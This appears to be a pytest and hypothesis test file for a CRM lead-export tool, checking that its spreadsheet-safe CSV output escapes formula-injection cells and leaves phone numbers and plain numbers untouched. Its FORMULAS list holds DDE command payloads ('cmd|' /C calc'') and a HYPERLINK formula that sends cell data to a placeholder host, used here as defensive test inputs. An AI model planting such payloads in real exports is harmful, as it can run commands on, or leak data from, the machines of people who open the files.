"""The rules of the two kinds, cell by cell. They are read back by Python's csv module, which we do not write with."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leaddesk.domain.exports import CsvKind
from leaddesk.domain.records import Value
from leaddesk.files.csv_cells import csv_lines, read_back

CRM, SAFE = CsvKind.CRM_IMPORT, CsvKind.SPREADSHEET_SAFE

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.test?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "--1",
    "-",
    "+",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@name",
    "\t=1+1",
    "\tharmless",
    "\rharmless",
    "\nharmless",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "'=1+1",
    " ' \" @SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "+49 30 901820*2",
    "+49 30 901820\n=1+1",
    "+49 (30) 901820 & more",
    "+12+34567",
    "+1 555 SUM 010",
    "-12.5-3",
    "-12,5;3",
    "-1.2.3.4a",
    "+4930901820|cmd",
    "-inf",
    "+٣",
]
PLAIN = [
    "+49 30 901820",
    "+493090182000",
    "+49 (0)30 / 90 18 20",
    "+1 (555) 010-9999",
    "+1-555-010-9999",
    "+1.555.010.9999",
    "+1 555 010 9999 ext. 4",
    "+1 555-010-9999 x12",
    "+44 20 7946 0958 #3",
    "+(49) 30 901820",
    " +49 30 901820 ",
    "(555) 010-9999 ext. 4",
    "555-0100",
    "-12.5",
    "+3",
    "-0",
    "-.5",
    "-1,200.50",
    "-1.200,50",
    "-1'200.50",
    "-1 200 000,5",
    "-5%",
    "-5 %",
    "-1e-07",
    "+1.5E+20",
    " -12.5",
    "0111",
    "Acme = good",
    "a@example.test",
    "www.example.test/?a=1",
    "'quoted'",
    '"quoted"',
    "",
    " ",
    "Müller–Lüdenscheidt",
    "佐藤",
    "١٢٣",
]


def lines_of(kind: CsvKind, rows: list[list[Value]]) -> str:
    return csv_lines(kind, rows).decode()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_would_run_gets_an_apostrophe(cell: str) -> None:
    assert read(lines_of(SAFE, [["left", cell, "right"]])) == [["left", "'" + cell, "right"]]
    assert read(lines_of(CRM, [["left", cell, "right"]])) == [["left", cell, "right"]]


@pytest.mark.parametrize("cell", PLAIN)
def test_phone_numbers_numbers_and_words_are_left_alone(cell: str) -> None:
    assert read(lines_of(SAFE, [["left", cell, "right"]])) == [["left", cell, "right"]]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("plain", "plain"),
        ("two words", "two words"),
        (" kept ", " kept "),
        ("a,b", '"a,b"'),
        ('say "so"', '"say ""so"""'),
        ("two\nlines", '"two\nlines"'),
        ("two\rlines", '"two\rlines"'),
        (None, ""),
        ("", ""),
        (0, "0"),
        (-7, "-7"),
        (12345678901234567890, "12345678901234567890"),
        (0.1, "0.1"),
        (1e-07, "1e-07"),
        (-2.5, "-2.5"),
        ("02139", "02139"),
        ("a;b", "a;b"),
        ("a\tb", "a\tb"),
        ("nul\0l", "nul\ufffdl"),
        ("half\ud800", "half\ufffd"),
        ("\ud83d\ude00", "😀"),
    ],
)
def test_quotes_stand_only_where_the_format_needs_them(cell: Value, text: str) -> None:
    assert lines_of(CRM, [["x", cell, "y"]]) == f"x,{text},y\r\n"


@pytest.mark.parametrize(("cell", "text"), [("a;b", '"a;b"'), ("a\tb", '"a\tb"'), (-2.5, "-2.5"), (None, "")])
def test_a_spreadsheet_may_split_at_other_marks(cell: Value, text: str) -> None:
    assert lines_of(SAFE, [["x", cell, "y"]]) == f"x,{text},y\r\n"


def test_an_empty_cell_alone_in_its_row_is_not_an_empty_line() -> None:
    assert lines_of(CRM, [[None], ["a"], [""], ["b,c"]]) == '""\r\na\r\n""\r\n"b,c"\r\n'


def test_no_rows_are_no_lines() -> None:
    assert csv_lines(CRM, []) == b""


def test_rows_of_different_length_are_our_mistake() -> None:
    with pytest.raises(ValueError, match="zip"):
        csv_lines(CRM, [["a"], ["a", "b"]])


CELLS: st.SearchStrategy[Value] = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(),
    st.text(alphabet="\"',;\t\r\n =+-@＝0123456789()./x\0\ud800\ufeffa"),
    st.sampled_from(FORMULAS + PLAIN),
    st.builds(str.__add__, st.sampled_from(["", " ", "'", '"', "\t"]), st.sampled_from(FORMULAS + PLAIN)),
)


def tables(narrowest: int = 1) -> st.SearchStrategy[list[list[Value]]]:
    return st.integers(narrowest, 5).flatmap(
        lambda width: st.lists(st.lists(CELLS, min_size=width, max_size=width), min_size=1, max_size=8)
    )


def as_text(value: Value) -> str:
    if value is None:
        return ""
    whole = str(value).encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    return whole.replace("\0", "\N{REPLACEMENT CHARACTER}")


@given(tables())
def test_a_crm_reads_back_every_value_exactly(rows: list[list[Value]]) -> None:
    assert read(lines_of(CRM, rows)) == [[as_text(cell) for cell in row] for row in rows]


@given(tables())
def test_a_spreadsheet_reads_what_the_preview_shows(rows: list[list[Value]]) -> None:
    for kind in CsvKind:
        assert read(lines_of(kind, rows)) == [read_back(kind, row) for row in rows]


@given(tables())
def test_taking_the_apostrophes_away_gives_back_every_value(rows: list[list[Value]]) -> None:
    def unguarded(cell: str) -> str:
        return cell[1:] if cell.startswith("'") and read_back(SAFE, [cell[1:]]) == [cell] else cell

    back = [[unguarded(cell) for cell in row] for row in read(lines_of(SAFE, rows))]
    assert back == [[as_text(cell) for cell in row] for row in rows]


def may_run(cell: str) -> bool:
    """An independent, coarser reading of OWASP's list: it begins as a formula does, and is no mere number."""
    bare = cell.lstrip(' \u00a0\ufeff"').rstrip(" ")
    if not bare.startswith(tuple("=+-@＝＋－＠\t\r\n")):
        return False
    digits = sum(character in "0123456789" for character in bare)
    is_number = digits > 0 and re.fullmatch(r"[+-][0-9.,' \u00a0\u202f]*(e[+-]?[0-9]+)? ?%?", bare, re.IGNORECASE)
    is_phone = digits > 6 and re.fullmatch(r"\+[0-9. ()/\u00a0-]*((ext\.?|x|#) ?[0-9]+)?", bare, re.IGNORECASE)
    return not (is_number or is_phone)


@given(tables())
def test_no_cell_of_a_spreadsheet_safe_file_starts_a_formula(rows: list[list[Value]]) -> None:
    assert not [cell for row in read(lines_of(SAFE, rows)) for cell in row if may_run(cell)]
